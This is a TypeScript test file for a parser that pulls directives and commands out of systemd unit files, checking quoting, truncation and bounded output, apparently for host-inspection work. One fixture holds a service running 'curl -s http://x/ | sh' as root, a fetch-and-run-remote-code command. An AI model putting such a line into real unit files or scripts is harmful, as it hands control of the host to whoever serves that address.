import fc from 'fast-check';
import { expect, test } from 'vitest';
import { factsOfUnit } from '../../src/host/unit-facts.ts';

const factsOf = (text: string): ReturnType<typeof factsOfUnit> => factsOfUnit(Buffer.from(text));

test('a unit is its assignments, and the commands among them as they run', () => {
  expect(factsOf('# why\n[Unit]\nDescription=A b\n[Service]\nExecStart=-/bin/sh -c "curl -s http://x/ \\\n  | sh"\nExecStop=@/bin/a "b c"; true\nExecStartPre=\nExecSearchPath=/tmp\nUser = root\n')).toEqual({
    directives: ['Unit.Description=A b', 'Service.ExecStart=-/bin/sh -c "curl -s http://x/ | sh"', 'Service.ExecStop=@/bin/a "b c"; true', 'Service.ExecStartPre=', 'Service.ExecSearchPath=/tmp', 'Service.User=root'],
    commands: ['/bin/sh -c curl -s http://x/ | sh', '/bin/a b c; true'],
    isCut: false,
  });
});

test('several commands in one line are several', () => {
  expect(factsOf('[Service]\nExecStart=/bin/true ; "/tmp/e vil" x\n').commands).toEqual(['/bin/true', '/tmp/e vil x']);
});

test('as systemd-run writes them', () => {
  expect(factsOf('# This is a transient unit file, created programmatically via the systemd API. Do not edit.\n[Service]\nExecStart=\nExecStart="/bin/sh" "-c" "echo \\"x\\" > /tmp/log"\n').commands).toEqual(['/bin/sh -c echo "x" > /tmp/log']);
});

test.each([
  ['after a comment of 40 KiB', `#${'x'.repeat(40_000)}\n[Service]\nExecStart=/tmp/x\n`],
  ['after a hundred directives', `[Service]\n${Array.from({ length: 100 }, (_, n) => `Environment=A${n}=1\n`).join('')}User=root\n`],
  ['after twenty commands', `[Service]\n${Array.from({ length: 20 }, (_, n) => `ExecStartPre=/bin/echo ${n}\n`).join('')}ExecStart=/tmp/x\n`],
  ['at the end of one command of 5,000 characters', `[Service]\nExecStart=/bin/sh ${'x'.repeat(5_000)} /tmp/x\n`],
  ['after directives of 9,000 characters', `[Service]\nEnvironment=${'x'.repeat(8_170)}\nUser=root\nGroup=root\n`],
])('what is hidden %s is missed, and that is said', (_where, text) => {
  expect(factsOf(text).isCut).toBe(true);
});

test('any bytes give bounded texts', () => {
  const lines = fc.array(fc.constantFrom('[Service]', 'ExecStart=', 'a', '=', '\\', '\n', '"', "'", ';', ' ', '\0', '\ud800', '# x', '/tmp/x', '\u001b[2J'), { maxLength: 400 }).map((parts) => Buffer.from(parts.join('')));
  fc.assert(fc.property(fc.oneof(fc.uint8Array({ maxLength: 2_000 }).map((bytes) => Buffer.from(bytes)), lines), (content) => {
    const { directives, commands } = factsOfUnit(content);
    expect(directives.length <= 64 && directives.join('').length <= 8_192).toBe(true);
    expect(commands.length <= 16 && commands.join('').length <= 4_096).toBe(true);
  }));
});
